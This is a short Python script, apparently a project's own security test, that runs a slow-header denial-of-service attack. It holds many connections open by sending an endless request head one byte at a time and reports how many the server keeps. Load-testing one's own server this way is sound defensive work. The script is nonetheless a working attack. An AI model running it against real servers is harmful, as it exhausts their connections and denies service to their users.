#!/usr/bin/env python3
"""Slow-header attacker (docs/SECURITY.md): opens N connections to HOST:PORT,
sends a request head one byte every 2 s and never finishes it, and prints
how many connections the server still holds open at each report time.

    python3 scripts/slow-headers.py 127.0.0.1:3000 2000 15,30,60
"""
import asyncio
import sys
import time

host, port = sys.argv[1].rsplit(":", 1)
n = int(sys.argv[2])
reports = [int(t) for t in sys.argv[3].split(",")]
open_now = 0


async def attacker():
    global open_now
    try:
        r, w = await asyncio.open_connection(host, int(port))
    except OSError:
        return
    open_now += 1
    head = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
    try:
        for b in head:
            w.write(bytes([b]))
            await w.drain()
            try:
                # The server closing shows as EOF here.
                if await asyncio.wait_for(r.read(1024), 2) == b"":
                    break
            except asyncio.TimeoutError:
                pass
    except OSError:
        pass
    open_now -= 1


async def main():
    start = time.monotonic()
    tasks = [asyncio.create_task(attacker()) for _ in range(n)]
    for t in reports:
        await asyncio.sleep(max(0, t - (time.monotonic() - start)))
        print(f"after {t:>3} s: {open_now} of {n} connections held open", flush=True)
    for t in tasks:
        t.cancel()


asyncio.run(main())
